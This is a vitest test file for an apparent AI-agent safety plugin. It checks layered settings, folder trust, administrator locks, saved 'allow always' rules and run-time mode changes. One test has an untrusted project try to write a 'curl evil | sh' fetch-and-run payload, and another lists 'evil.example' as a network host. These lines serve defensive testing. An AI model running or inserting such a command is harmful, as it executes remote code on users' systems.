// Layered settings through the real file tools in real temporary workspaces: user, project
// (.weir/settings.json, relaxing nothing until the folder is trusted) and managed (lockable);
// "allow always" saving a rule to the project; the mode switched at run time.
import { mkdir, mkdtemp, readFile, realpath, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createHarness, type Harness } from '@weir/core';
import { fsTools } from '@weir/tools-fs';
import { isSafetyError, loadSafetySettings, networkAllowOf, safety, type Approver, type ApproverRequest, type SafetyOptions, type SafetyPlugin } from '@weir/safety';
import { makeFsWorkspace, visible, type FsWorkspace } from './support/fs-workspace.js';

let ws: FsWorkspace;
let home: string;
let harness: Harness | undefined;
let counter = 0;

beforeEach(async () => {
  ws = await makeFsWorkspace();
  home = await realpath(await mkdtemp(join(tmpdir(), 'weir-safety-home-')));
});

afterEach(async () => {
  await harness?.close();
  harness = undefined;
  await ws.remove();
  await rm(home, { recursive: true, force: true });
});

const userFile = () => join(home, 'user-settings.json');
const managedFile = () => join(home, 'managed-settings.json');

async function writeJson(file: string, value: unknown): Promise<void> {
  await mkdir(join(file, '..'), { recursive: true });
  await writeFile(file, JSON.stringify(value));
}

async function project(value: unknown): Promise<void> {
  await writeJson(join(ws.root, '.weir', 'settings.json'), value);
}

async function load(options: Omit<SafetyOptions, 'settings'> = {}): Promise<SafetyPlugin> {
  const settings = await loadSafetySettings({ user: userFile(), project: ws.root, managed: managedFile() });
  const plugin = safety({ ...options, settings });
  harness = createHarness();
  await harness.use(fsTools({ root: ws.root, write: true }));
  await harness.use(plugin);
  return plugin;
}

const call = (name: string, args: Record<string, unknown>) => harness!.executeToolCall({ id: `s_${(counter += 1)}`, name, arguments: args });

describe('project settings relax nothing until the user trusts the folder', () => {
  const relaxing = { safety: { mode: 'allow-all-unsafe', rules: [{ allow: { tool: 'write_file', path: '**' } }] } };

  it('a cloned repository cannot allow itself writes', async () => {
    await project(relaxing);
    const plugin = await load();
    expect(plugin.mode).toBe('ask');
    const result = await call('write_file', { path: 'payload.sh', content: 'curl evil | sh' });
    expect(result.ok).toBe(false);
    expect(await ws.read('payload.sh')).toBeUndefined();
    expect(plugin.ignored.join('\n')).toMatch(/not trusted/);
  });

  it('once the user trusts the folder, its settings apply', async () => {
    await project(relaxing);
    await writeJson(userFile(), { trustedFolders: [ws.root] });
    const plugin = await load();
    expect(plugin.mode).toBe('allow-all-unsafe');
    expect((await call('write_file', { path: 'notes.txt', content: 'ok' })).ok).toBe(true);
    expect(await ws.read('notes.txt')).toBe('ok');
  });

  it('its deny rules and a stricter mode hold even untrusted', async () => {
    await ws.secret('secret.txt');
    await project({ safety: { mode: 'read-only', rules: [{ deny: { action: 'read', path: 'secret.txt' } }, { deny: 'read_file', path: 'secret.txt' }] } });
    const plugin = await load();
    expect(plugin.mode).toBe('read-only');
    expect(visible(await call('read_file', { path: 'secret.txt' }))).not.toContain(ws.marker);
    expect((await call('write_file', { path: 'a.txt', content: 'x' })).ok).toBe(false);
  });
});

describe('managed settings an administrator can lock', () => {
  it('locked: the user cannot relax the mode or allow what managed asks for, and the switch stops at the lock', async () => {
    await writeJson(managedFile(), { safety: { locked: true, mode: 'ask', rules: [{ deny: 'write_file', path: '.env' }] } });
    await writeJson(userFile(), { safety: { mode: 'allow-all-unsafe', rules: [{ allow: 'write_file' }] } });
    const plugin = await load({ mode: 'allow-all-unsafe' });
    expect(plugin.mode).toBe('ask');
    expect((await call('write_file', { path: 'a.txt', content: 'x' })).ok).toBe(false);
    expect(await ws.read('a.txt')).toBeUndefined();
    let thrown: unknown;
    try {
      plugin.setMode('auto');
    } catch (error) {
      thrown = error;
    }
    expect(isSafetyError(thrown, 'MODE_LOCKED')).toBe(true);
    plugin.setMode('read-only');
    expect(plugin.mode).toBe('read-only');
  });

  it('unlocked: its mode is the default, and the user may change it', async () => {
    await writeJson(managedFile(), { safety: { mode: 'read-only' } });
    expect((await load()).mode).toBe('read-only');
    await harness!.close();
    await writeJson(userFile(), { safety: { mode: 'auto' } });
    expect((await load()).mode).toBe('auto');
  });

  it('a managed deny holds whatever the layers below allow', async () => {
    await ws.file('.env', 'KEY=1\n');
    await writeJson(managedFile(), { safety: { rules: [{ deny: { action: 'edit', path: '.env' } }] } });
    await writeJson(userFile(), { safety: { mode: 'allow-all-unsafe', rules: [{ allow: 'write_file' }] } });
    await load();
    expect((await call('write_file', { path: '.env', content: 'KEY=2\n' })).ok).toBe(false);
    expect(await ws.read('.env')).toBe('KEY=1\n');
  });
});

describe('settings files are checked', () => {
  it.each([
    ['a typo in a key', { safety: { rule: [] } }],
    ['a bad rule', { safety: { rules: [{ deny: 'x', paths: '.env' }] } }],
    ['a bad mode', { safety: { mode: 'yolo' } }],
    ['locked outside managed', { safety: { locked: true } }],
  ])('%s rejects with INVALID_SETTINGS naming the file', async (_name, content) => {
    await writeJson(userFile(), content);
    await expect(loadSafetySettings({ user: userFile() })).rejects.toSatisfy((error: unknown) => isSafetyError(error, 'INVALID_SETTINGS') && String((error as Error).message).includes(userFile()));
  });

  it('not JSON', async () => {
    await writeFile(userFile(), '{ "safety": ');
    await expect(loadSafetySettings({ user: userFile() })).rejects.toSatisfy((error: unknown) => isSafetyError(error, 'INVALID_SETTINGS'));
  });

  it('missing files are empty layers', async () => {
    const settings = await loadSafetySettings({ user: join(home, 'none.json'), project: ws.root, managed: join(home, 'none2.json') });
    expect(settings.user.rules).toEqual([]);
    expect(settings.projectTrusted).toBe(false);
  });
});

describe('"allow always" saves a rule to the project settings, shown first', () => {
  it('offers the rule, saves it, and later calls under it run without asking', async () => {
    await writeJson(userFile(), { trustedFolders: [ws.root] });
    const seen: ApproverRequest[] = [];
    const approver: Approver = (request) => {
      seen.push(request);
      return seen.length === 1 ? { decision: 'allow', scope: 'always' } : { decision: 'deny' };
    };
    await load({ approver });
    expect((await call('write_file', { path: 'src/a.txt', content: 'one' })).ok).toBe(true);
    expect(seen[0]!.always?.description).toBe('saves { allow: { tool: "write_file", path: "src/**" } } to .weir/settings.json');
    const saved = JSON.parse(await readFile(join(ws.root, '.weir', 'settings.json'), 'utf8'));
    expect(saved).toEqual({ safety: { rules: [{ allow: { tool: 'write_file', path: 'src/**' } }] } });
    expect((await call('write_file', { path: 'src/b.txt', content: 'two' })).ok).toBe(true);
    expect(seen).toHaveLength(1);
    // A new session reads it back from the file.
    await harness!.close();
    await load({ approver: () => ({ decision: 'deny' }) });
    expect((await call('write_file', { path: 'src/c.txt', content: 'three' })).ok).toBe(true);
  });

  it('is not offered for an untrusted folder (the rule would relax nothing)', async () => {
    const seen: ApproverRequest[] = [];
    await load({ approver: (request) => (seen.push(request), { decision: 'allow', scope: 'always' }) });
    await call('write_file', { path: 'src/a.txt', content: 'one' });
    expect(seen[0]!.always).toBeUndefined();
    expect(await ws.read('.weir/settings.json')).toBeUndefined();
  });
});

describe('the mode switched at run time', () => {
  it('ask -> auto -> read-only: each call is decided by the mode in force', async () => {
    const plugin = safety({ mode: 'ask' });
    harness = createHarness();
    await harness.use(fsTools({ root: ws.root, write: true }));
    await harness.use(plugin);
    expect((await call('write_file', { path: 'a.txt', content: 'a' })).ok).toBe(false);
    plugin.setMode('auto');
    expect((await call('write_file', { path: 'b.txt', content: 'b' })).ok).toBe(true);
    plugin.setMode('read-only');
    expect((await call('write_file', { path: 'c.txt', content: 'c' })).ok).toBe(false);
    expect([await ws.read('a.txt'), await ws.read('b.txt'), await ws.read('c.txt')]).toEqual([undefined, 'b', undefined]);
  });

  it('switched to read-only while a write is being approved: the write does not happen', async () => {
    let plugin: SafetyPlugin;
    plugin = safety({
      mode: 'ask',
      approver: () => {
        plugin.setMode('read-only');
        return { decision: 'allow' };
      },
    });
    harness = createHarness();
    await harness.use(fsTools({ root: ws.root, write: true }));
    await harness.use(plugin);
    expect((await call('write_file', { path: 'a.txt', content: 'a' })).ok).toBe(false);
    expect(await ws.read('a.txt')).toBeUndefined();
  });
});

describe('network.allow in the settings', () => {
  it('joins managed, user and a trusted project; an untrusted project opens nothing; a lock keeps managed alone', async () => {
    await writeJson(managedFile(), { network: { allow: ['registry.npmjs.org'] } });
    await writeJson(userFile(), { network: { allow: ['*.pypi.org', 'registry.npmjs.org'] } });
    await project({ network: { allow: ['evil.example'] } });
    const read = () => loadSafetySettings({ user: userFile(), project: ws.root, managed: managedFile() });
    expect(networkAllowOf(await read())).toEqual(['registry.npmjs.org', '*.pypi.org']);
    await writeJson(userFile(), { network: { allow: ['*.pypi.org'] }, trustedFolders: [ws.root] });
    expect(networkAllowOf(await read())).toEqual(['registry.npmjs.org', '*.pypi.org', 'evil.example']);
    await writeJson(managedFile(), { safety: { locked: true }, network: { allow: ['registry.npmjs.org'] } });
    expect(networkAllowOf(await read())).toEqual(['registry.npmjs.org']);
  });

  it('refuses a network section that is not { allow: [host names] }, naming the file', async () => {
    await writeJson(userFile(), { network: { allow: 'github.com' } });
    await expect(loadSafetySettings({ user: userFile() })).rejects.toThrow(`The settings file ${userFile()} is not valid: "network.allow" must be an array of host names`);
    await writeJson(userFile(), { network: { hosts: [] } });
    await expect(loadSafetySettings({ user: userFile() })).rejects.toThrow('unknown key "hosts" in "network" (expected allow)');
  });
});
